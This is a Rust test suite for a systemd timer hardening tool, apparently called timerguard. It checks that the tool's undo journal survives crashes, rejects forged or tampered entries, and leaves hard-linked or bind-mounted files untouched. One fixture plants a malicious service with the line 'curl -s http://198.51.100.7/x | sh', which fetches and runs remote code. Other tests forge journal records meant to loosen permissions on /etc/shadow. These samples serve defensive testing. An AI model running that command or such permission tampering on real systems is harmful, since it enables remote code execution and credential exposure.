//! The journal `undo` acts on: trusted only when ours and authenticated; a kill at any
//! point of a run leaves a tree `undo` restores byte for byte; objects shared with
//! other names (hard links) are never changed in place.

use std::os::unix::fs::MetadataExt;
use std::process::Command;

use serde_json::Value;

use crate::common::*;

/// A root whose unsafe plan has at least 50 steps of every kind fixes make: chmods on
/// unit files and a wants dir, disables (link removal and preset writes), masks over
/// quarantined files, a drop-in quarantined.
fn fifty() -> Fx {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        .file("/etc/group", "root:x:0:\n")
        .dir("/var/lib")
        .dir("/etc/systemd/system/timers.target.wants")
        .mode("/etc/systemd/system/timers.target.wants", 0o777)
        .file("/usr/lib/systemd/system/cron.service", &service("/usr/sbin/cron"))
        .file("/etc/systemd/system/cron.service.d/override.conf", "[Service]\nExecStartPre=/usr/bin/true\n");
    for i in 0..12 {
        let (t, s) = (format!("/etc/systemd/system/job{i}.timer"), format!("/etc/systemd/system/job{i}.service"));
        fx.file(&t, &timer("daily"))
            .mode(&t, 0o666)
            .file(&s, &service("/usr/bin/true"))
            .mode(&s, 0o666)
            .link(&format!("/etc/systemd/system/timers.target.wants/job{i}.timer"), &t);
    }
    fx.file("/etc/tg.yaml", "params:\n  TG301: { approved: [other.timer] }\n");
    for i in 0..1 {
        let t = format!("/etc/systemd/system/pay{i}.timer");
        fx.file(&t, &timer("hourly"))
            .file(
                &format!("/etc/systemd/system/pay{i}.service"),
                "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n",
            )
            .link(&format!("/etc/systemd/system/timers.target.wants/pay{i}.timer"), &t);
    }
    fx
}

fn plan_steps(fx: &Fx) -> usize {
    let o = fx.cli(&["--config", &cfg(fx), "fix", "--unsafe", "--format", "json"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    v["actions"].as_array().unwrap().iter().map(|a| a["steps"].as_array().map_or(0, Vec::len)).sum()
}

fn cfg(fx: &Fx) -> String {
    fx.host_path("/etc/tg.yaml").display().to_string()
}

fn copy_root(fx: &Fx) -> Fx {
    let c = Fx::new();
    let st = Command::new("cp").arg("-a").arg(format!("{}/.", fx.path().display())).arg(c.path()).status().unwrap();
    assert!(st.success());
    c
}

#[test]
fn a_kill_at_every_step_and_phase_leaves_a_tree_undo_restores_byte_exact() {
    let base = fifty();
    let n = plan_steps(&base);
    assert!(n >= 50, "the plan has {n} steps");
    let before = listing(base.path());
    for seq in 1..=n {
        for phase in ["intent", "change", "done"] {
            let fx = copy_root(&base);
            let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
                .env("TIMERGUARD_KILL_AT", format!("{seq}:{phase}"))
                .args(["--root", fx.path().to_str().unwrap(), "--config", &cfg(&fx), "fix", "--unsafe", "--apply"])
                .output()
                .unwrap();
            assert_eq!(o.status.code(), None, "killed at {seq}:{phase}: {}", String::from_utf8_lossy(&o.stderr));
            let u = fx.cli(&["undo"]);
            assert!(
                u.status.success(),
                "undo after a kill at {seq}:{phase}: {}{}",
                String::from_utf8_lossy(&u.stdout),
                String::from_utf8_lossy(&u.stderr)
            );
            let after = listing(fx.path());
            let diff: Vec<_> = before
                .iter()
                .filter(|(k, v)| after.get(*k) != Some(v))
                .map(|(k, v)| format!("{k}: {v} -> {:?}", after.get(k)))
                .chain(after.keys().filter(|k| !before.contains_key(*k)).map(|k| format!("{k}: new")))
                .collect();
            assert!(diff.is_empty(), "tree after a kill at {seq}:{phase} and undo differs: {diff:#?}");
        }
    }
}

/// Runs `fix --apply` on a root with one fixable file; returns the journal's path.
fn one_run(fx: &Fx) -> std::path::PathBuf {
    fx.debian_layout().file("/etc/systemd/system/x.timer", &timer("daily")).mode("/etc/systemd/system/x.timer", 0o666);
    let o = fx.cli(&["fix", "--apply"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let dir = fx.host_path("/var/lib/timerguard/journal");
    let j = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|e| e == "jsonl") && !p.to_string_lossy().ends_with(".undo.jsonl"));
    j.unwrap()
}

fn mode_of(fx: &Fx, p: &str) -> u32 {
    std::fs::metadata(fx.host_path(p)).unwrap().mode() & 0o7777
}

#[test]
fn an_edited_journal_is_refused_and_nothing_is_undone() {
    let fx = Fx::new();
    let j = one_run(&fx);
    assert_eq!(mode_of(&fx, "/etc/systemd/system/x.timer"), 0o644);
    // Someone edits the recorded prior mode to make undo set 4777.
    let text = std::fs::read_to_string(&j).unwrap();
    assert!(text.contains("\"mode\":438"), "{text}");
    std::fs::write(&j, text.replace("\"mode\":438", "\"mode\":2559")).unwrap();
    let o = fx.cli(&["undo"]);
    assert_eq!(o.status.code(), Some(4));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("authentication code does not match") && err.contains(":1:"), "{err}");
    assert_eq!(mode_of(&fx, "/etc/systemd/system/x.timer"), 0o644, "nothing was undone");
}

#[test]
fn a_journal_planted_in_an_image_is_refused() {
    let fx = Fx::new();
    fx.debian_layout().file("/etc/shadow", "secret\n").mode("/etc/shadow", 0o640);
    // An image author ships a journal "undoing" a chmod of /etc/shadow to 0666.
    let rec = r#"{"run":"20260101T000000Z-1","seq":1,"status":"done","step":{"op":"chmod","path":"/etc/shadow","mode":"0640"},"before":{"kind":"file","mode":438},"after":{"kind":"file","mode":416}}"#;
    fx.file("/var/lib/timerguard/journal/20260101T000000Z-1.jsonl", &format!("{rec}\n"))
        .mode("/var/lib/timerguard/journal", 0o700)
        .mode("/var/lib/timerguard/journal/20260101T000000Z-1.jsonl", 0o600);
    let o = fx.cli(&["undo"]);
    assert_eq!(o.status.code(), Some(4));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("no authentication code") && err.contains("not written by this host"), "{err}");
    assert_eq!(mode_of(&fx, "/etc/shadow"), 0o640);
    // And with a made-up code in front.
    fx.file("/var/lib/timerguard/journal/20260101T000000Z-1.jsonl", &format!("{}\t{rec}\n", "0".repeat(64)))
        .mode("/var/lib/timerguard/journal/20260101T000000Z-1.jsonl", 0o600);
    let o = fx.cli(&["undo"]);
    assert_eq!(o.status.code(), Some(4));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("authentication code does not match"), "{err}");
    assert_eq!(mode_of(&fx, "/etc/shadow"), 0o640);
}

#[test]
fn a_journal_others_can_write_is_refused() {
    let fx = Fx::new();
    let j = one_run(&fx);
    fx.mode("/var/lib/timerguard/journal", 0o777);
    let o = fx.cli(&["undo"]);
    assert_eq!(o.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&o.stderr).contains("/var/lib/timerguard/journal is not trusted"));
    fx.mode("/var/lib/timerguard/journal", 0o700);
    std::fs::set_permissions(&j, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let o = fx.cli(&["undo"]);
    assert_eq!(o.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&o.stderr).contains(".jsonl is not trusted"));
    // A fresh run also refuses to write into an untrusted journal dir.
    fx.mode("/var/lib/timerguard/journal", 0o777);
    assert_eq!(fx.cli(&["fix", "--apply"]).status.code(), Some(4));
    // Back to private: undo works.
    fx.mode("/var/lib/timerguard/journal", 0o700);
    std::fs::set_permissions(&j, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    assert!(fx.cli(&["undo"]).status.success());
    assert_eq!(mode_of(&fx, "/etc/systemd/system/x.timer"), 0o666);
}

#[test]
fn a_journal_key_inside_the_root_is_refused() {
    let fx = Fx::new();
    fx.debian_layout().file("/etc/systemd/system/x.timer", &timer("daily")).mode("/etc/systemd/system/x.timer", 0o666);
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .env("TIMERGUARD_JOURNAL_KEY", fx.host_path("/etc/timerguard.key"))
        .args(["--root", fx.path().to_str().unwrap(), "fix", "--apply"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&o.stderr).contains("lies inside the root being changed"));
    assert_eq!(mode_of(&fx, "/etc/systemd/system/x.timer"), 0o666, "no change without a trusted journal");
}

#[test]
fn a_hard_linked_unit_file_is_never_changed_in_place() {
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    std::fs::write(&victim, timer("daily")).unwrap();
    std::fs::set_permissions(&victim, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    let fx = Fx::new();
    fx.debian_layout().dir("/etc/systemd/system");
    if std::fs::hard_link(&victim, fx.host_path("/etc/systemd/system/x.timer")).is_err() {
        eprintln!("skipped: the temp dirs are on different filesystems");
        return;
    }
    let plan = fx.cli(&["fix", "--format", "json"]);
    let v: Value = serde_json::from_slice(&plan.stdout).unwrap();
    let text = v.to_string();
    let o = fx.cli(&["fix", "--apply"]);
    assert_eq!(o.status.code(), Some(4), "{text}");
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("hard links"), "{out}");
    assert_eq!(std::fs::metadata(&victim).unwrap().mode() & 0o7777, 0o666, "the outside file is untouched");
}

#[test]
fn a_bind_mounted_unit_file_is_never_changed_in_place() {
    if !is_root() || !have("mount") {
        eprintln!("skipped: needs root and mount");
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    std::fs::write(&victim, timer("daily")).unwrap();
    std::fs::set_permissions(&victim, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    let fx = Fx::new();
    fx.debian_layout().file("/etc/systemd/system/x.timer", "");
    let target = fx.host_path("/etc/systemd/system/x.timer");
    let m = Command::new("mount").arg("--bind").arg(&victim).arg(&target).output().unwrap();
    if !m.status.success() {
        eprintln!("skipped: mount --bind refused here: {}", String::from_utf8_lossy(&m.stderr));
        return;
    }
    let o = fx.cli(&["fix", "--apply"]);
    let _ = Command::new("umount").arg(&target).status();
    assert_eq!(o.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&o.stdout).contains("mount point"), "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(std::fs::metadata(&victim).unwrap().mode() & 0o7777, 0o666, "the outside file is untouched");
}
